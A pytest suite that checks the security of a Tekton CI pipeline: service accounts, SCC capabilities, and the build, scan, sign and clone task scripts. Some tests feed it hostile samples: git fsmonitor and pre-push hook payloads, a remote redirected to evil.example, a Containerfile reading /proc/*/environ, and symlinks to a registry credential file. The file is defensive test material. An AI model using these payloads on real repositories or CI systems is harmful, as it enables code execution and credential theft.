"""The pods that Tekton creates for a run: each fits the SCC of its account, and its script runs."""

import hashlib
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

import brakepoint
from brakepoint.delivery.rendering import named, of_kind, render
from brakepoint.room.attendee_delivery import delivery_manifests
from brakepoint.room.config import MinioSettings, Room

ROOT = Path(__file__).parents[2]
TEKTON = render(ROOT / "deploy" / "tekton")
TASKS = {task["metadata"]["name"]: task["spec"] for task in of_kind(TEKTON, "Task")}
(PIPELINE,) = of_kind(TEKTON, "Pipeline")
(TEMPLATE,) = of_kind(TEKTON, "TriggerTemplate")
FIRST = list(yaml.safe_load_all((ROOT / "deploy/cluster/images/runs.yaml").read_text("utf-8")))
RUNS = [*TEMPLATE["spec"]["resourcetemplates"], *FIRST]
AS_ROOT = {"build-amd64", "build-arm64", "manifest"}
PIPELINES_SCC_ALLOWS = {"SETFCAP"}
"""And neither a seccomp profile nor an fsGroup outside of the namespace's range."""
each_run = pytest.mark.parametrize("run", RUNS, ids=["push", *(run["metadata"]["name"] for run in FIRST)])


def account_of(run: dict[str, Any], task: str) -> str:
    specs = {spec["pipelineTaskName"]: spec for spec in run["spec"]["taskRunSpecs"]}
    name: str = specs.get(task, {}).get(
        "serviceAccountName", run["spec"]["taskRunTemplate"]["serviceAccountName"]
    )
    return name


@each_run
def test_only_what_handles_images_runs_under_the_account_of_the_builds(run) -> None:
    tasks = {use["name"] for use in PIPELINE["spec"]["tasks"]}

    assert {task for task in tasks if account_of(run, task) == "brakepoint-builder"} == AS_ROOT
    assert {account_of(run, task) for task in tasks - AS_ROOT} == {"brakepoint-tasks"}


def test_code_that_is_pushed_is_tested_without_the_right_to_push_images() -> None:
    (run,) = TEMPLATE["spec"]["resourcetemplates"]
    (spec,) = (spec for spec in run["spec"]["taskRunSpecs"] if spec["pipelineTaskName"] == "test")

    assert spec["podTemplate"] == {"automountServiceAccountToken": False}


def test_pipelines_scc_reaches_the_builds_and_nobody_else() -> None:
    bindings = [
        b for b in of_kind(TEKTON, "RoleBinding") if b["roleRef"]["name"] == "pipelines-scc-clusterrole"
    ]

    assert [subject["name"] for binding in bindings for subject in binding["subjects"]] == [
        "brakepoint-builder"
    ]


@pytest.mark.parametrize("task", ["build", "manifest"])
def test_what_runs_as_root_asks_for_nothing_that_pipelines_scc_refuses(task: str) -> None:
    (step,) = TASKS[task]["steps"]

    assert step["securityContext"] == {"runAsUser": 0, "capabilities": {"add": ["SETFCAP"]}}
    assert set(step["securityContext"]["capabilities"]["add"]) == PIPELINES_SCC_ALLOWS
    assert {"name": "STORAGE_DRIVER", "value": "vfs"} in step["env"]
    assert {"name": "BUILDAH_ISOLATION", "value": "chroot"} in step["env"]
    assert step["volumeMounts"] == [{"name": "containers", "mountPath": "/var/lib/containers"}]


@each_run
def test_no_run_sets_a_group_that_no_range_of_a_namespace_holds(run) -> None:
    assert "fsGroup" not in yaml.safe_dump(run)


@each_run
def test_a_run_gives_every_parameter_that_has_no_default(run) -> None:
    wanted = {param["name"] for param in PIPELINE["spec"]["params"] if "default" not in param}
    given = {param["name"] for param in run["spec"]["params"]}

    assert wanted <= given <= {param["name"] for param in PIPELINE["spec"]["params"]}
    wanted = {place["name"] for place in PIPELINE["spec"]["workspaces"] if not place.get("optional")}
    assert wanted <= {place["name"] for place in run["spec"]["workspaces"]}


def test_the_environment_of_the_tests_fits_their_copy_of_the_sources() -> None:
    (copy,) = TASKS["test"]["volumes"]
    assert int(copy["emptyDir"]["sizeLimit"].removesuffix("Gi")) >= 8


def test_the_first_images_are_those_that_the_overlays_name() -> None:
    pushed = {
        (said["image"], said["version"])
        for said in ({p["name"]: p["value"] for p in run["spec"]["params"]} for run in FIRST)
    }
    entries = yaml.safe_load(
        (ROOT / "solutions/step7_delivery/overlay/kustomization.yaml").read_text("utf-8")
    )["images"]
    (edge,) = (entry for entry in entries if entry["name"] == "brakepoint-edge")

    assert (edge["newName"], edge["newTag"]) in pushed
    assert {version for _, version in pushed} == {brakepoint.__version__}
    kinds = {image.rpartition("brakepoint-")[2] for image, _ in pushed}
    assert kinds == {"edge", "serving", "workbench", "pipeline-cpu"}


def test_a_cluster_without_arm64_is_said_by_one_parameter() -> None:
    (run,) = TEMPLATE["spec"]["resourcetemplates"]
    nodes = {
        spec["pipelineTaskName"]: spec["podTemplate"]["nodeSelector"]["kubernetes.io/arch"]
        for spec in run["spec"]["taskRunSpecs"]
        if "nodeSelector" in spec.get("podTemplate", {})
    }
    defaults = {param["name"]: param.get("default") for param in TEMPLATE["spec"]["params"]}

    assert nodes == {"build-amd64": "amd64", "build-arm64": "$(tt.params.arm64-node)"}
    assert defaults["arm64-node"] == "arm64"


def run_script(
    task: str, folder: Path, tools: dict[str, str], **variables: str
) -> subprocess.CompletedProcess:
    """Runs the script of a task, with substitutes for programs of its image, which record their arguments."""
    bin_ = folder / "bin"
    bin_.mkdir()
    for name, does in tools.items():
        (bin_ / name).write_text(f'#!/bin/sh\necho "{name} $*" >> "$SAID"\n{does}\n')
        (bin_ / name).chmod(0o755)
    script = TASKS[task]["steps"][0]["script"]
    for name in ("digest", "image"):
        script = script.replace(f"$(results.{name}.path)", str(folder / name))
    for place in ("registry-credentials", "signing-key"):
        script = script.replace(f"$(workspaces.{place}.bound)", variables.get("BOUND", "true"))
    script = script.replace("/registry/", f"{folder}/").replace("/tmp/digest", f"{folder}/pushed")
    (folder / ".dockerconfigjson").write_text("{}")
    environment = {
        "PATH": f"{bin_}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(folder),
        "SAID": str(folder / "said"),
        "CERTIFICATES": "/certificates",
        **variables,
    }
    return subprocess.run(
        ["sh", "-c", script, "script", *variables.get("ARGS", "").split()],
        cwd=folder,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
    )


BUILD = {
    "IMAGE": "registry.example.com/edge",
    "KIND": "edge",
    "BASE": "b",
    "STEPS": "labs",
    "MODEL": "m",
    "COMMIT": "c",
    "DEFINITION": "",
}
PUSHES = 'case "$*" in *digestfile*) printf "sha256:1\\n" > pushed ;; esac'


@pytest.mark.parametrize(("machine", "arch"), [("x86_64", "arm64"), ("aarch64", "amd64")])
def test_a_node_of_another_architecture_builds_nothing(machine: str, arch: str, tmp_path: Path) -> None:
    tools = {"uname": f"echo {machine}", "buildah": "exit 1"}

    done = run_script("build", tmp_path, tools, ARCH=arch, **BUILD)

    assert done.returncode == 0, done.stderr
    assert (tmp_path / "image").read_text() == (tmp_path / "digest").read_text() == "none"


@pytest.mark.parametrize(("machine", "arch"), [("x86_64", "amd64"), ("aarch64", "arm64")])
def test_a_node_of_the_same_architecture_builds_and_pushes(machine: str, arch: str, tmp_path: Path) -> None:
    done = run_script("build", tmp_path, {"uname": f"echo {machine}", "buildah": PUSHES}, ARCH=arch, **BUILD)

    assert done.returncode == 0, done.stderr
    assert (tmp_path / "image").read_text() == "registry.example.com/edge@sha256:1"
    (built,) = builds(tmp_path)
    assert f"--arch {arch} " in built and "--target edge " in built


def builds(folder: Path) -> list[str]:
    """The builds that the script started, in order."""
    return [line for line in (folder / "said").read_text().splitlines() if line.startswith("buildah bud ")]


def test_packages_that_are_not_kept_beside_the_image_are_built_first_and_kept(tmp_path: Path) -> None:
    tools = {"uname": "echo x86_64", "buildah": f'case "$1" in pull) exit 1 ;; esac\n{PUSHES}'}

    done = run_script("build", tmp_path, tools, ARCH="amd64", **BUILD)

    assert done.returncode == 0, done.stderr
    assert [line.partition("--target ")[2].split()[0] for line in builds(tmp_path)] == ["ready", "edge"]
    assert "push --cert-dir /certificates registry.example.com/edge-cache:" in (tmp_path / "said").read_text()


def test_the_list_joins_what_was_built_and_gets_both_names(tmp_path: Path) -> None:
    built = "registry.example.com/edge@sha256:2"

    done = run_script(
        "manifest",
        tmp_path,
        {"buildah": PUSHES},
        IMAGE="registry.example.com/edge",
        TAG="c",
        VERSION="0.1.0",
        ARGS=f"{built} none",
    )

    assert done.returncode == 0, done.stderr
    said = (tmp_path / "said").read_text()
    assert f"docker://{built}" in said and "docker://none" not in said
    for tag in ("c", "0.1.0"):
        assert f"docker://registry.example.com/edge:{tag}" in said
    assert (tmp_path / "digest").read_text() == "sha256:1"


def defined(folder: Path, containerfile: str, ignore: str = "*") -> str:
    """Puts an image's definition into the sources, and returns its hash."""
    images = folder / "deploy" / "images"
    (images / "locks").mkdir(parents=True, exist_ok=True)
    content = {"Containerfile": containerfile, "ignore": ignore, "locks/edge.txt": "numpy"}
    for name, words in content.items():
        (images / name).write_text(words)
    sums = [f"{hashlib.sha256(words.encode()).hexdigest()}  {name}\n" for name, words in content.items()]
    return hashlib.sha256("".join(sums).encode()).hexdigest()


@pytest.mark.parametrize(
    ("pushed", "ignore"),
    [("FROM kit", "*"), ("FROM kit\nRUN cat /proc/*/environ", "*"), ("FROM", " kit*"), ("FROM kit*", "")],
)
def test_an_attendee_cannot_change_what_runs_as_root_beside_the_registrys_key(
    pushed: str, ignore: str, tmp_path: Path
) -> None:
    expected = defined(tmp_path, "FROM kit")
    defined(tmp_path, pushed, ignore)
    tools = {"uname": "echo x86_64", "buildah": PUSHES}

    done = run_script("build", tmp_path, tools, **BUILD | {"ARCH": "amd64", "DEFINITION": expected})

    assert (done.returncode == 0) is (pushed == "FROM kit")
    assert ("differ" in done.stderr) is (done.returncode != 0)
    assert (tmp_path / ".docker").exists() is (done.returncode == 0)


def test_the_definition_of_a_room_is_that_of_the_kits_own_sources(tmp_path: Path) -> None:
    shutil.copytree(ROOT / "deploy", tmp_path / "deploy")
    room = Room(
        name="spring",
        attendees=1,
        handles=("anna",),
        store=MinioSettings(kind="minio", endpoint="https://minio.example.org"),
        repository="https://git.example.org/{handle}/brakepoint.git",
    )
    (trigger,) = (one for one in delivery_manifests(room, "anna") if one["kind"] == "Trigger")
    given = {one["name"]: one["value"] for one in trigger["spec"]["bindings"]}
    assert given.keys() <= {one["name"] for one in TEMPLATE["spec"]["params"]}
    variables = BUILD | {"ARCH": "amd64", "DEFINITION": given["definition"]}

    done = run_script("build", tmp_path, {"uname": "echo x86_64", "buildah": PUSHES}, **variables)

    assert done.returncode == 0, done.stderr


HOSTILE = """
git config core.fsmonitor "touch $HOME/obeyed"
git config url.https://evil.example/.insteadOf "$(git remote get-url origin)"
printf '#!/bin/sh\ntouch $HOME/obeyed\n' > .git/hooks/pre-push
echo changed > file
"""


def test_the_tests_of_a_push_reach_a_copy_and_nothing_that_a_later_task_uses(tmp_path: Path) -> None:
    """On a cluster the kernel makes sure of it: the workspace is mounted read-only."""
    source, copy = tmp_path / "source", tmp_path / "copy"
    copy.mkdir()
    git(tmp_path, "init", "--quiet", str(source))
    git(source, "remote", "add", "origin", "https://git.example.org/a.git")
    (source / "file").write_text("as pushed")
    before = {path: path.read_bytes() for path in source.rglob("*") if path.is_file()}
    task, (step,) = TASKS["test"], TASKS["test"]["steps"]
    environment = {**os.environ, "SOURCE": str(source), "TESTS": HOSTILE, "HOME": str(tmp_path)}

    subprocess.run(["sh", "-c", step["script"]], cwd=copy, env=environment, check=True)

    assert (copy / "sources" / "file").read_text() == "changed\n"
    assert {path: path.read_bytes() for path in source.rglob("*") if path.is_file()} == before
    assert task["workspaces"] == [{"name": "source", "readOnly": True}]
    assert step["workingDir"] in {mount["mountPath"] for mount in step["volumeMounts"]}


def test_a_link_or_a_list_of_contents_in_the_sources_reaches_no_later_task(tmp_path: Path) -> None:
    """A link to the registry's key, named as a list of contents, would be signed and published."""
    origin, source = tmp_path / "origin", tmp_path / "source"
    git(tmp_path, "init", "--quiet", "--initial-branch", "main", str(origin))
    (origin / "bom").mkdir()
    for name in ("bom/1.cdx.json", "kustomization.yaml"):
        (origin / name).symlink_to("/registry/.dockerconfigjson")
    git(origin, "add", ".")
    git(origin, "-c", "user.name=a", "-c", "user.email=a@localhost", "commit", "--quiet", "--message", "x")
    script = TASKS["clone"]["steps"][0]["script"].replace("$(workspaces.git-credentials.bound)", "false")
    script = script.replace("$(results.commit.path)", str(tmp_path / "commit"))
    source.mkdir()
    environment = {**os.environ, "URL": str(origin), "REVISION": "main", "HOME": str(tmp_path)}

    subprocess.run(["sh", "-c", script], cwd=source, env=environment, check=True)

    assert not [path for path in source.rglob("*") if path.is_symlink()]
    assert not (source / "bom").exists()


def git(folder: Path, *words: str) -> None:
    subprocess.run(["git", *words], cwd=folder, check=True)


def test_what_was_not_built_is_not_scanned(tmp_path: Path) -> None:
    assert run_script("scan", tmp_path, {"trivy": "exit 1"}, IMAGE="none").returncode == 0
    assert not (tmp_path / "said").exists()


def test_a_scan_leaves_the_list_of_contents_for_the_signature(tmp_path: Path) -> None:
    run_script("scan", tmp_path, {"trivy": ""}, IMAGE="registry.example.com/edge@sha256:2")

    said = (tmp_path / "said").read_text().splitlines()
    assert "--format cyclonedx --output bom/2.cdx.json registry.example.com/edge@sha256:2" in said[0]
    assert "--severity CRITICAL" in said[1] and "--exit-code 1" in said[1]


def sign(folder: Path, log: str) -> list[str]:
    (folder / "bom").mkdir()
    (folder / "bom" / "2.cdx.json").write_text("{}")
    (folder / "password").write_text("open")
    script = TASKS["sign"]["steps"][0]["script"]
    assert script.startswith("#!/busybox/sh\n"), "cosign's image has no other shell"
    task = {
        **TASKS["sign"],
        "steps": [{"script": script.replace("/signing/cosign.password", f"{folder}/password")}],
    }
    TASKS["signs-here"] = task
    done = run_script(
        "signs-here", folder, {"cosign": ""}, IMAGE="registry.example.com/edge", DIGEST="sha256:1", LOG=log
    )
    assert done.returncode == 0, done.stderr
    return (folder / "said").read_text().splitlines()


def test_nothing_is_published_unless_it_is_asked_for(tmp_path: Path) -> None:
    said = sign(tmp_path, "false")

    (default,) = (p["default"] for p in PIPELINE["spec"]["params"] if p["name"] == "transparency-log")
    assert default == "false"
    assert all("--tlog-upload=false" in line for line in said if line.split()[1] in ("sign", "attest"))
    assert all("--insecure-ignore-tlog=true" in line for line in said if "verify" in line)


def test_what_is_published_is_looked_up_again(tmp_path: Path) -> None:
    said = sign(tmp_path, "true")

    assert all("--tlog-upload=true" in line for line in said if line.split()[1] in ("sign", "attest"))
    assert all("--insecure-ignore-tlog=false" in line for line in said if "verify" in line)


def test_each_image_keeps_its_list_of_contents_and_both_signatures_are_verified(tmp_path: Path) -> None:
    said = [line.split() for line in sign(tmp_path, "false")]

    assert [words[1] for words in said] == ["sign", "attest", "verify-attestation", "verify"]
    of = {words[1]: words[-1] for words in said}
    assert of["sign"] == of["verify"] == "registry.example.com/edge@sha256:1"
    assert of["attest"] == of["verify-attestation"] == "registry.example.com/edge@sha256:2"
    assert all("/signing/cosign.pub" in words for words in said if "verify" in words[1])


def test_an_empty_overlay_commits_nothing(tmp_path: Path) -> None:
    assert run_script("commit", tmp_path, {"git": "exit 1"}, OVERLAY="").returncode == 0
    task = named(TEKTON, "Task", "commit")
    assert task is not None and not (tmp_path / "said").exists()


def test_without_a_key_nothing_is_signed_and_the_run_reports_it(tmp_path: Path) -> None:
    done = run_script("sign", tmp_path, {"cosign": "exit 1"}, BOUND="false", LOG="false")

    assert done.returncode == 0 and "not signed" in done.stdout
    assert not (tmp_path / "said").exists()


def test_a_push_is_signed() -> None:
    (run,) = TEMPLATE["spec"]["resourcetemplates"]

    assert "signing-key" in {place["name"] for place in run["spec"]["workspaces"]}
